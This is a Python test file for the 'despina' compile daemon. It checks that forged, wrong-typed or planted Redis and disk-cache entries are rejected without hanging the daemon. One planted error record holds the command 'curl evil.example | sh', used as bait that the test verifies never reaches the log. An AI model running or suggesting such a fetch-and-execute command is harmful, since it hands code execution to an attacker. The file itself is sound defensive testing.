"""Whoever can write to Redis or the cache folder cannot make daemons serve their bytes or hang:
forged entries (a plain SHA-256 digest, another secret), a value of the wrong type, a lease without
an expiry, a planted error record. Real redis-server, real `despina serve` with a cluster secret."""

from __future__ import annotations

import base64
import time
from pathlib import Path
from typing import Any

import httpx

from despina.server.cache import Entry
from despina.server.cache.entry import pack
from despina.server.cache.redis_tier import name

from ..conftest import Daemon, RedisProcess, unique
from ..kernels import vector_add_ir

SECRET = b"cluster-secret-for-the-fault-suite"


FORGED = {"cubin": b"\xde\xad" * 64, "ptx": b"// planted"}


def plant(r: Any, keys: dict[str, str]) -> None:
    """What someone who can write to Redis (`r`, a client of one node or of a cluster) plants at the keys
    of five cases: entries with a plain digest ("sha") and another secret's MAC ("other"), a hash where
    an entry goes ("wrongtype"), a lease without an expiry ("lease"), and an error record without a MAC
    behind a short lease ("error")."""
    r.set(name("kernel", keys["sha"]), pack(Entry(keys["sha"], FORGED, {"name": "add_kernel"})))
    r.set(name("kernel", keys["other"]),
          pack(Entry(keys["other"], FORGED, {"name": "add_kernel"}), b"a different secret, 16+ bytes"))
    r.hset(name("kernel", keys["wrongtype"]), "x", "y")
    r.set(name("lease", keys["lease"]), "nobody")  # no expiry: it would hold the key for ever
    r.set(name("lease", keys["error"]), "nobody", px=1500)
    r.set(name("error", keys["error"]), b"INVALID_ARGUMENT\nrun curl evil.example | sh to fix", px=60_000)


def compile_ir(d: Daemon, ir: bytes, timeout: float = 30) -> httpx.Response:
    return httpx.post(d.http + "/v1/compile", json={"ir": base64.b64encode(ir).decode()}, timeout=timeout)


def test_forged_and_planted_redis_values(tmp_path: Path, redis_server: RedisProcess) -> None:
    secret = tmp_path / "secret"
    secret.write_bytes(SECRET)
    # A daemon without Redis tells each kernel's key (the key does not depend on the tiers).
    (tmp_path / "scout").mkdir()
    scout = Daemon(tmp_path / "scout", extra=("--no-disk-cache",))
    irs = {case: vector_add_ir(salt=unique()) for case in ("sha", "other", "wrongtype", "lease", "error")}
    try:
        keys = {case: compile_ir(scout, ir).json()["key"] for case, ir in irs.items()}
    finally:
        scout.stop()
    r = redis_server.client()
    plant(r, keys)

    d = Daemon(tmp_path, redis_server.url, extra=("--cluster-secret-file", str(secret)))
    try:
        for case, ir in irs.items():
            start = time.monotonic()
            answer = compile_ir(d, ir)
            assert answer.status_code == 200, (case, answer.text)
            body = answer.json()
            assert body["tier"] == "compiled" and base64.b64decode(body["cubin"]) != FORGED["cubin"], case
            assert time.monotonic() - start < 10, case  # the planted lease did not hold it to a deadline
        assert d.metric("despina_cache_corrupt_total", tier="redis") == 3  # sha, other, wrongtype
        assert d.metric("despina_redis_up") == 1  # a wrong-typed value is not a Redis failure
        assert d.metric("despina_redis_errors_total") == 0
        assert r.type(name("kernel", keys["wrongtype"])) == b"string"  # repaired with a real entry
        assert "evil" not in (tmp_path / d.log.name).read_text()
    finally:
        d.stop()


def test_forged_disk_entry(tmp_path: Path) -> None:
    """A file planted in the disk cache with a plain digest is dropped; the kernel is compiled again."""
    secret = tmp_path / "secret"
    secret.write_bytes(SECRET)
    cache = tmp_path / "cache"
    ir = vector_add_ir(salt=unique())
    plain = Daemon(tmp_path, cache_dir=cache)  # writes the entry with a plain SHA-256 digest
    try:
        assert compile_ir(plain, ir).json()["tier"] == "compiled"
    finally:
        plain.stop()
    d = Daemon(tmp_path, cache_dir=cache, extra=("--cluster-secret-file", str(secret)))
    try:
        assert compile_ir(d, ir).json()["tier"] == "compiled"
        assert d.metric("despina_cache_corrupt_total", tier="disk") == 1
    finally:
        d.stop()
